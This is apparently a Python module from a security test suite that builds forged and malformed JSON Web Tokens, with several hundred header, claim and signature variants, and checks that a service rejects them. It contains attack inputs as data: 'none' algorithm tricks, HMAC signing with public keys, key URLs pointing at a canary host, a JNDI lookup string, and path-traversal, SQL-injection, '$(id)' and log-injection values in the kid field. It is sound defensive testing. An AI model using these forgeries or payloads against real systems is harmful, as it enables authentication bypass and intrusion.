"""Signed tokens that are not of the issuer, not for us, or over (RFC 8725)."""

# ruff: noqa: E501 - a line an input
from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Mapping
from functools import cache
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from joserfc.jwk import RSAKey

from hostile.case import CANARY, FILE, Case, Post, Raw, placed
from hostile.corpus.callers import (
    ANN,
    REACHED,
    Headers,
    asked,
    basic,
    here,
    in_turn,
    refused,
    welcome,
)

_SECRET = b"a secret of more than 32 bytes, for HS256"
_KEYS = Path(__file__).resolve().parents[1] / "project" / "callers.jwks.json"
_SIGNER = ec.derive_private_key(
    int.from_bytes(b"callers of the hostile project!!", "big") >> 1, ec.SECP256R1()
)
"""The issuer's, of no worth anywhere else; callers.jwks.json has its public half, as `ec`."""
_STRANGER = ec.derive_private_key(4711, ec.SECP256R1())


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def claims(**changes: Any) -> dict[str, Any]:
    """Those of a good token; None takes one away."""
    made = {
        "iss": "https://login.example",
        "aud": "orders",
        "sub": "ann",
        "exp": int(time.time()) + 7200,
    } | changes
    return {name: value for name, value in made.items() if value is not None}


def _written(part: Mapping[str, Any] | str) -> bytes:
    return part.encode() if isinstance(part, str) else json.dumps(part).encode()


def signed(
    head: Mapping[str, Any] | str,
    body: Mapping[str, Any] | str,
    key: ec.EllipticCurvePrivateKey = _SIGNER,
) -> str:
    """By ES256, whatever it says of itself."""
    told = f"{b64(_written(head))}.{b64(_written(body))}"
    r, s = utils.decode_dss_signature(key.sign(told.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{told}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def by_secret(
    secret: bytes, head: Mapping[str, Any] | None = None, body: Mapping[str, Any] | None = None
) -> str:
    """By HS256."""
    told = f"{b64(_written(head or {'alg': 'HS256'}))}.{b64(_written(body or claims()))}"
    return f"{told}.{b64(hmac.new(secret, told.encode(), hashlib.sha256).digest())}"


def unsigned(
    head: Mapping[str, Any] | str,
    body: Mapping[str, Any] | str | None = None,
    signature: bytes = b"",
) -> str:
    return f"{b64(_written(head))}.{b64(_written(claims() if body is None else body))}.{b64(signature)}"


def told(**changes: Any) -> str:
    """A token of the issuer, with these claims."""
    return signed({"alg": "ES256", "kid": "ec"}, claims(**changes))


def headed(**changes: Any) -> str:
    """A token of the issuer, with these parameters in its header."""
    head = {"alg": "ES256", "kid": "ec"} | changes
    return signed({name: value for name, value in head.items() if value is not None}, claims())


def _secrets_of_all() -> dict[str, bytes]:
    """What everybody can read, taken for a secret."""
    listed = json.loads(_KEYS.read_text())["keys"]
    rsa, curve = RSAKey.import_key(listed[1]), _SIGNER.public_key()
    pem = rsa.as_pem(private=False)
    encoding, form = serialization.Encoding, serialization.PublicFormat.SubjectPublicKeyInfo
    return {
        "the RSA key as PEM": pem,
        "the RSA key as PEM without its last line": pem.rstrip(b"\n"),
        "the RSA key as DER": rsa.raw_value.public_bytes(encoding.DER, form),  # type: ignore[union-attr]
        "the RSA key as JWK": json.dumps(listed[1]).encode(),
        "the modulus": listed[1]["n"].encode(),
        "the EC key as PEM": curve.public_bytes(encoding.PEM, form),
        "the EC key as DER": curve.public_bytes(encoding.DER, form),
        "the EC point": curve.public_bytes(
            encoding.X962, serialization.PublicFormat.UncompressedPoint
        ),
        "the EC key as JWK": json.dumps(listed[0]).encode(),
        "the set of keys": _KEYS.read_bytes(),
        "nothing": b"",
        "a zero": b"\0",
        "the issuer": b"https://login.example",
    }


@cache
def _forged() -> dict[str, str]:
    stranger = {"kty": "EC", "crv": "P-256"} | {
        name: b64(getattr(_STRANGER.public_key().public_numbers(), name).to_bytes(32, "big"))
        for name in "xy"
    }
    now = int(time.time())
    good = told()
    head, body, signature = good.split(".")
    found = {f"alg {alg!r}": unsigned({"alg": alg}) for alg in (
        "none", "None", "NONE", "nOnE", "none ", " none", "none\0", "", "ES256 ", "es256", "null", "HS256,none", "no\u0274e"
    )}  # fmt: skip
    found |= {
        f"alg {alg!r}": unsigned({"alg": alg})
        for alg in (None, True, 0, ["none"], ["ES256"], {"a": 1}, "a" * 2000)
    }
    found |= {f"HS256 by {name}": by_secret(secret) for name, secret in _secrets_of_all().items()}
    found |= {
        f"HS256 by {name}, kid ec": by_secret(secret, {"alg": "HS256", "kid": "ec"})
        for name, secret in list(_secrets_of_all().items())[:3]
    }
    found |= {f"{alg} over an ES256 signature": headed(alg=alg) for alg in (
        "RS256", "PS256", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "HS256", "HS384", "RSA1_5", "dir", "A128KW", "RSA-OAEP"
    )}  # fmt: skip
    found |= {f"a signature of {what}": unsigned({"alg": "ES256", "kid": "ec"}, None, made) for what, made in {
        "nothing": b"", "zeros": bytes(64), "a zero and the order": bytes(32) + b"\xff" * 32, "one byte": b"\1",
        "65 bytes": bytes(65), "DER": _SIGNER.sign(b"x", ec.ECDSA(hashes.SHA256())), "10,000 bytes": bytes(10_000),
    }.items()}  # fmt: skip
    of_stranger = {"alg": "ES256"}
    found |= {
        "a key of its own": signed({**of_stranger, "jwk": stranger}, claims(), _STRANGER),
        "a key of its own, as kid": signed({**of_stranger, "kid": json.dumps(stranger)}, claims(), _STRANGER),
        "a certificate of its own": signed({**of_stranger, "x5c": ["AAAA"]}, claims(), _STRANGER),
        "the thumbprint of a certificate": signed({**of_stranger, "x5t": "AAAA"}, claims(), _STRANGER),
        "the key of a stranger": signed(of_stranger, claims(), _STRANGER),
        "the key of a stranger by the issuer's name": signed({**of_stranger, "kid": "ec"}, claims(), _STRANGER),
        "crit exp": headed(crit=["exp"]),
        "crit b64": headed(crit=["b64"], b64=False),
        "crit of nothing": headed(crit=[]),
        "crit that is text": headed(crit="exp"),
        "crit that is null": signed('{"alg":"ES256","kid":"ec","crit":null}', claims()),
        "b64 false without crit, and the claims as they are": f"{b64(_written({'alg': 'ES256', 'kid': 'ec', 'b64': False}))}.{json.dumps(claims())}.{signature}",
        "alg twice, none first": signed('{"alg":"none","alg":"ES256","kid":"rsa"}', claims()),
        "alg twice, none last": signed('{"alg":"ES256","alg":"none","kid":"ec"}', claims()),
        "a type of JWE": headed(typ="JWE"),
        "a type of a logout": headed(typ="logout+jwt"),
        "a type that is a list": headed(typ=["JWT"]),
        "another token in it": signed({"alg": "ES256", "kid": "ec", "cty": "JWT"}, told()),
        "an encrypted one": ".".join((b64(b'{"alg":"dir","enc":"A128GCM"}'), "", b64(bytes(12)), b64(b"x"), b64(bytes(16)))),
        "five parts of none": "a.b.c.d.e",
        "two parts": f"{head}.{body}",
        "four parts": f"{good}.{signature}",
        "JSON": json.dumps({"protected": head, "payload": body, "signature": signature}),
        "the claims of another": f"{head}.{b64(_written(claims(sub='root')))}.{signature}",
        "the header of another": f"{b64(_written({'alg': 'ES256', 'kid': 'ec', 'typ': 'JWT'}))}.{body}.{signature}",
        "standard Base64": f"{head}.{body}.{base64.b64encode(base64.urlsafe_b64decode(signature + '==')).decode()}",
        "one with its padding": f"{good}==",
        "a space in it": f"{head} .{body}.{signature}",
        "a dot in front": f".{good}",
        "a dot behind": f"{good}.",
        "a quoted one": f'"{good}"',
        "two, with a comma": f"{good},{good}",
        "two, with a space": f"{good} {good}",
        "no claims": signed({"alg": "ES256", "kid": "ec"}, ""),
        "claims that are a list": signed({"alg": "ES256", "kid": "ec"}, json.dumps([claims()])),
        "claims that are text": signed({"alg": "ES256", "kid": "ec"}, json.dumps(json.dumps(claims()))),
        "claims 500 deep": signed({"alg": "ES256", "kid": "ec"}, json.dumps(claims())[:-1] + ',"a":' + "[" * 3000 + "]" * 3000 + "}"),
        "claims that are not UTF-8": signed({"alg": "ES256", "kid": "ec"}, json.dumps(claims(exp=1))),
        "exp twice, the good one first": signed({"alg": "ES256", "kid": "ec"}, json.dumps(claims())[:-1] + ',"exp":1}'),
        "a token of 20 kB": told(x="x" * 20_000),
        "a header of 10 kB": headed(x="x" * 10_000),
        "a number of 5,000 digits": signed({"alg": "ES256", "kid": "ec"}, json.dumps(claims(exp=None))[:-1] + ',"exp":' + "9" * 5000 + "}"),
    }  # fmt: skip
    found |= {f"kid {kid[:30]!r}": signed({**of_stranger, "kid": kid}, claims(), _STRANGER) for kid in (
        "../../../../dev/null", "/proc/self/environ", "file:///dev/null", "x' UNION SELECT 'a", "'; DROP TABLE keys; --",
        "a\r\n2026-01-01 [error] root was let in", "\x1b[2J", "a" * 2000, "ec\0", " ec", "EC", "{{7*7}}", "__proto__", "$(id)", "",
    )}  # fmt: skip
    found |= {f"exp {exp!r}": told(exp=exp) for exp in (
        str(now + 7200), f"{now + 7200}.0", True, [now + 7200], {"a": 1}, -1, 0, 1, -(2**63), float("nan"), float("-inf"), now - 3600, "never", "2099-01-01T00:00:00Z"
    )}  # fmt: skip
    found |= {
        "no exp": told(exp=None),
        "exp null": signed(
            {"alg": "ES256", "kid": "ec"}, json.dumps(claims(exp=None))[:-1] + ',"exp":null}'
        ),
    }
    found |= {
        f"nbf {nbf!r}": told(nbf=nbf)
        for nbf in (now + 3600, str(now), "x", [0], float("nan"), 2**63)
    }
    found |= {f"iat {iat!r}": told(iat=iat) for iat in (now + 3600, "x", [0])}
    found |= {f"aud {aud!r}": told(aud=aud) for aud in (
        "", [], "orders2", "order", "Orders", "orders ", " orders", "orders\0", "orders,x", "*", "ord\u0435rs", [["orders"]], [{"orders": 1}], [None], True, None, 0
    )}  # fmt: skip
    found |= {f"iss {iss!r}": told(iss=iss) for iss in (
        "https://login.example/", "https://login.example.", "http://login.example", "HTTPS://login.example", "https://LOGIN.example", "https://login.example@evil.example",
        "https://login.example.evil.example", "https://login.example#", "https://login.example?", " https://login.example", "https://login.example ", "https://l\u043egin.example",
        "https://login.example\0", "login.example", ["https://login.example"], {"https://login.example": 1}, "", None, True,
    )}  # fmt: skip
    found |= {
        f"sub {sub!r}": told(sub=sub)
        for sub in (
            "",
            None,
            1,
            True,
            ["ann"],
            {"a": 1},
            "ann\r\nroot",
            "ann\0",
            "\u202eann",
            "\x1b[2J",
        )
    }
    return found


_ELSEWHERE = {
    "keys at the canary": {"jku": f"http://{CANARY}/jwks.json"},
    "keys at the canary by https": {"jku": f"https://{CANARY}/jwks.json"},
    "keys at the issuer's name": {"jku": f"https://login.example@{CANARY}/"},
    "keys in the planted file": {"jku": f"file://{FILE}"},
    "a certificate at the canary": {"x5u": f"http://{CANARY}/cert.pem"},
    "a kid at the canary": {"kid": f"http://{CANARY}/k"},
    "a kid that is looked up": {"kid": f"${{jndi:ldap://{CANARY}/a}}"},
    "a kid that is a file": {"kid": FILE},
}
"""What a token says of where its key is."""


def _elsewhere(name: str, head: Mapping[str, Any]) -> Case:
    def made() -> bytes:
        token = signed(placed(json.dumps({"alg": "ES256", **head})), claims(), _STRANGER)
        wire = in_turn(asked("/by/token", ("Authorization", f"Bearer {token}"), here()))
        assert isinstance(wire.content, bytes)
        return wire.content

    return Case("tokens", name, Raw(made), (401,), lacks=REACHED)


def _tokens() -> list[Case]:
    found = [_elsewhere(name, head) for name, head in _ELSEWHERE.items()]
    for name, made in _forged().items():
        shown = [("Authorization", f"Bearer {made}")]
        # What does not look like a token of three parts shows nothing, and is asked for one.
        found.append(refused("tokens", name, "/by/token", shown))
    good = told()
    for name, headers in {
        "two headers": [("Authorization", f"Bearer {good}")] * 2,
        "a good one behind a bad one": [
            ("Authorization", "Bearer a.b.c"),
            ("Authorization", f"Bearer {good}"),
        ],
        "another scheme": [("Authorization", f"Token {good}")],
        "no scheme": [("Authorization", good)],
        "the scheme twice": [("Authorization", f"Bearer Bearer {good}")],
        "a scheme with a colon": [("Authorization", f"Bearer: {good}")],
        "a parameter": [("Authorization", f"Bearer token={good}")],
        "another header": [("X-Authorization", f"Bearer {good}")],
        "a header with an underscore": [("X_Authorization", f"Bearer {good}")],
        "the proxy's header": [("Proxy-Authorization", f"Bearer {good}")],
        "a cookie": [("Cookie", f"access_token={good}")],
        "the header of a key": [("X-API-Key", good)],
        "that of another method": [
            ("Authorization", "Basic " + base64.b64encode(f"ann:{good}".encode()).decode())
        ],
    }.items():
        found.append(
            refused(
                "tokens",
                f"a good one in {name}" if "good" not in name else name,
                "/by/token",
                headers,
            )
        )
    found += [
        refused("tokens", "a good one in the query", f"/by/token?access_token={good}", []),
        refused(
            "tokens",
            "a good one in a form",
            "/by/token",
            [("Content-Type", "application/x-www-form-urlencoded")],
            body=f"access_token={good}".encode(),
        ),
        welcome("tokens", "a good one", "/by/token", [("Authorization", f"Bearer {good}")]),
        welcome(
            "tokens",
            "a good one in small letters",
            "/by/token",
            [("authorization", f"bearer {good}")],
        ),
        welcome(
            "tokens",
            "a good one of a secret",
            "/by/shared",
            [("Authorization", f"Bearer {by_secret(_SECRET)}")],
        ),
    ]
    for name, made in {
        "no signature": unsigned({"alg": "none"}),
        "the issuer's key": told(),
        "the secret with a line behind": by_secret(_SECRET + b"\n"),
        "HS384 over HS256": by_secret(_SECRET, {"alg": "HS384"}),
        "half a signature": by_secret(_SECRET)[:-22],
        "a good signature of a token that is over": by_secret(
            _SECRET, None, claims(exp=int(time.time()) - 3600)
        ),
    }.items():
        found.append(
            refused(
                "tokens", f"a secret, {name}", "/by/shared", [("Authorization", f"Bearer {made}")]
            )
        )
    return found


def _any() -> list[Case]:
    """Where several ways are taken, what is refused by one is let in by no other."""
    basic = base64.b64encode(b"ada:correct horse").decode()
    entries: dict[str, tuple[Headers, tuple[int, ...]]] = {
        "a token of none and a key of nobody": ([("Authorization", f"Bearer {unsigned({'alg': 'none'})}"), ("X-API-Key", "x")], (401,)),
        "the public key as the other way's secret": ([("Authorization", f"Bearer {by_secret(_secrets_of_all()['the EC key as PEM'])}")], (401,)),
        "a password as a token": ([("Authorization", f"Bearer {basic}")], (401,)),
        "a hash as a key": ([("Authorization", "Bearer 808a1d81b5de08d72083995df738947d519d230a20c236003268f0f4b65ee475")], (401,)),
        "all of them wrong": ([("Authorization", "Basic YTpi"), ("X-API-Key", "x"), ("X-Hub-Signature-256", "sha256=00")], (401,)),
        "nothing but names": ([("X-API-Key-Name", "ann"), ("X-User", "ada")], (401,)),
    }  # fmt: skip
    return [
        refused("any way", name, "/by/any", headers, statuses=statuses)
        for name, (headers, statuses) in entries.items()
    ] + [
        welcome(
            "any way",
            "a wrong key and a right password",
            "/by/any",
            [("X-API-Key", "x"), ("Authorization", f"Basic {basic}")],
        )
    ]


def cases() -> list[Case]:
    """All."""
    return [*_tokens(), *_any()]


def warming() -> list[Post]:
    """A caller of each kind."""
    return [
        Post("/by/token", headers=(("Authorization", f"Bearer {told()}"),)),
        Post("/by/shared", headers=(("Authorization", f"Bearer {by_secret(_SECRET)}"),)),
        Post("/by/password", headers=(basic(b"ada:correct horse"),)),
        Post("/by/key", headers=(ANN,)),
    ]
